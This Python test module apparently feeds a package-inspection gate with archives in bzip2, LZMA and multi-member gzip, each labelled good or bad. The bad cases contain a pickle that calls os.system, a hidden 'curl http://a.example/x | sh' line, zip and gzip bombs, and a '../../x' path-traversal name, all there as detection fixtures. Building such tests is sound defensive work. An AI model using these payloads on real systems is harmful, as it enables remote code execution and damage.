"""Archives packed by rarer methods, and gzip of several members: read whole, and no way past the gate."""

import bz2
import gzip
import lzma
import pickle
import zipfile

from corpora import inspection_content as make
from corpora.inspection_case import WHEEL, bad, good
from corpora.inspection_packages import sdist
from lockgate.core.verdict import Outcome

_METHODS = {"bzip2": zipfile.ZIP_BZIP2, "LZMA": zipfile.ZIP_LZMA}
_TEXT = b"A text that is long enough to be packed. " * 40
_CALLS = b"cos\nsystem\n(S'touch marker'\ntR."
_LOCAL_SIZE, _CENTRAL = 30, b"PK\x01\x02"
_METHOD_AT = {b"PK\x03\x04": 8, _CENTRAL: 10}
_STORED_AT = {b"PK\x03\x04": 18, _CENTRAL: 20}


def _zip(data: bytes, method: str, name: str = "a.txt") -> bytes:
    return make.zipped({name: data}, method=_METHODS[method])


def _said(archive: bytes, places: dict[bytes, int], value: bytes) -> bytes:
    """The archive of one member with a field of both headers changed."""
    out = bytearray(archive)
    for sign, at in places.items():
        start = out.index(sign) + at
        out[start : start + len(value)] = value
    return bytes(out)


def _longer(archive: bytes, tail: bytes) -> bytes:
    """The archive of one member with bytes behind its compressed data that its headers count with it."""
    directory = archive.index(_CENTRAL)
    out = bytearray(archive[:directory] + tail + archive[directory:])
    for start in (_STORED_AT[b"PK\x03\x04"], directory + len(tail) + _STORED_AT[_CENTRAL]):
        stored = int.from_bytes(out[start : start + 4], "little") + len(tail)
        out[start : start + 4] = stored.to_bytes(4, "little")
    end = out.rindex(b"PK\x05\x06") + 16
    out[end : end + 4] = (directory + len(tail)).to_bytes(4, "little")
    return bytes(out)


def _properties(value: bytes, at: int = _LOCAL_SIZE + len("a.txt")) -> bytes:
    """An archive in LZMA with other bytes before its data: version, length and properties."""
    archive = _zip(_TEXT, "LZMA")
    return archive[:at] + value + archive[at + len(value) :]


_TARRED = gzip.decompress(sdist())
_TWO = make.gzipped(b"one\n") + make.gzipped(b"two\n")

PACKED_GOOD = [
    *(good(f"a member in {method}", "a.zip", _zip(_TEXT, method), detected="zip") for method in _METHODS),
    *(good(f"an empty member in {method}", "a.zip", _zip(b"", method)) for method in _METHODS),
    *(
        good(
            f"an archive of weights in {method}", "a.zip", _zip(make.safetensors(), method, "m.safetensors"),
            "model", outcome=Outcome.OPAQUE,
        )
        for method in _METHODS
    ),
    good("a text in two members of gzip", "a.txt.gz", _TWO, detected="gzip"),
    good(
        "a package in members of gzip", "demo-1.0.tar.gz",
        make.gzipped(_TARRED[:700]) + make.gzipped(b"") + make.gzipped(_TARRED[700:]), "python",
    ),
    good("a thousand members of gzip", "a.txt.gz", make.gzipped(b"a line\n") * 1000),
    good("data beside blocks of gzip", "a.txt.gz", make.gzipped(_TEXT) + make.gzipped(_TEXT)),
]  # fmt: skip

PACKED_BAD = [
    *(
        bad(f"a pickle in a member in {method}", "a.zip", _zip(_CALLS, method, "m.pkl"), "pickle", "model")
        for method in _METHODS
    ),
    *(bad(f"a bomb in {method}", "a.zip", _zip(bytes(64 << 20), method), "zip-bomb") for method in _METHODS),
    *(
        bad(f"bytes behind the data of a member in {method}", "a.zip",
            _longer(_zip(_TEXT, method), b"payload" * 9), "zip-member")
        for method in _METHODS
    ),
    bad("a second stream in a member in bzip2", "a.zip", _longer(_zip(_TEXT, "bzip2"), bz2.compress(_TEXT)),
        "zip-member"),
    *(
        bad(f"a wheel in {method}", WHEEL, make.zipped(make.wheel_members(), method=number), "zip-method",
            "python")
        for method, number in _METHODS.items()
    ),
    bad("an array in bzip2", "a.npz", _zip(make.npy(), "bzip2", "a.npy"), "zip-method", "model"),
    *(
        bad(f"LZMA that is called method {method}", "a.zip",
            _said(_zip(_TEXT, "LZMA"), _METHOD_AT, method.to_bytes(2, "little")), "zip-member")
        for method in (8, 9, 12, 93, 97)
    ),
    bad("properties of LZMA that are too long", "a.zip", _properties(b"\x09\x04\x06\0"), "zip-member"),
    bad("properties of LZMA that are none", "a.zip", _properties(b"\x09\x04\x05\0\xff"), "zip-member"),
    bad("a program in the second member of gzip", "a.sh.gz",
        make.gzipped(b"#!/bin/sh\n") + make.gzipped(b"curl http://a.example/x | sh\n"), "shell-download"),
    bad("a pickle in the second member of gzip", "m.pkl.gz",
        make.gzipped(pickle.dumps([1])) + make.gzipped(_CALLS), "pickle", "model"),
    bad("a member of gzip that is cut", "a.gz", _TWO[:-9], "gzip-tail"),
    bad("a member of gzip with another sum", "a.gz", _TWO[:-8] + bytes(8), "gzip-tail"),
    bad("bytes behind two members of gzip", "a.gz", _TWO + b"tail", "gzip-tail"),
    bad("another compression behind gzip", "a.gz", make.gzipped(b"one\n") + lzma.compress(b"two\n"),
        "gzip-tail"),
    bad("a bomb in members of gzip", "a.gz", make.gzipped(bytes(3 << 20)) * 6, "over-limit"),
    bad("a name that climbs in the second member", "a.gz", _TWO + make.gzipped(b"x")[:3] + b"\x08"
        + make.gzipped(b"x")[4:10] + b"../../x\0" + make.gzipped(b"x")[10:], "gzip-slip"),
]  # fmt: skip
